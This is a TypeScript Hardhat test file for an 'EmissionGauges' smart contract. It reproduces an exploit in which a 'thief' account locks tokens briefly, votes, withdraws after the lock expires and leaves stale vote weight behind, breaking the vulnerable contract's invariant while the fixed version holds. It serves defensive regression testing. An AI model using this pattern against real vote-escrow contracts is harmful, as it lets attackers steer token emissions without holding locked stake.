import { expect } from "chai";
import { network } from "hardhat";
import { parseEther } from "viem";

const WEEK = 604_800n;

async function attack(name: "EmissionGauges" | "EmissionGaugesFixed") {
  const { viem } = await network.create();
  const [, alice, thief, ...pools] = await viem.getWalletClients();
  const client = await viem.getTestClient();
  const token = await viem.deployContract("EmissionGaugesToken");
  const controller = await viem.deployContract(name as "EmissionGauges", [token.address, parseEther("100000")]);
  const checks = await viem.deployContract("EmissionGaugesChecks", [controller.address]);
  await token.write.transfer([controller.address, parseEther("5000000")]);
  for (const { account } of pools.slice(0, 2)) await controller.write.addGauge([account.address]);
  for (const { account } of [alice, thief]) {
    await token.write.transfer([account.address, parseEther("2000000")]);
    await token.write.approve([controller.address, parseEther("2000000")], { account });
  }
  await controller.write.lock([parseEther("2000000"), 52n * WEEK], { account: alice.account });
  await controller.write.vote([[0n], [1n]], { account: alice.account });
  expect(await checks.read.invariant_weightWithinPower()).to.equal(true);

  const account = thief.account;
  await controller.write.lock([parseEther("2000000"), WEEK], { account });
  await controller.write.vote([[1n], [1n]], { account });
  await client.increaseTime({ seconds: Number(WEEK) });
  await controller.write.withdraw({ account });
  return {
    holds: await checks.read.invariant_weightWithinPower(),
    weight: (await controller.read.gauges([1n]))[1] > 0n,
    tokens: await token.read.balanceOf([account.address]),
  };
}

describe("EmissionGauges", () => {
  it("is broken by hand", async () => {
    const tokens = parseEther("2000000");
    expect(await attack("EmissionGauges")).to.deep.equal({ holds: false, weight: true, tokens });
  });

  it("holds when fixed", async () => {
    const tokens = parseEther("2000000");
    expect(await attack("EmissionGaugesFixed")).to.deep.equal({ holds: true, weight: false, tokens });
  });
});
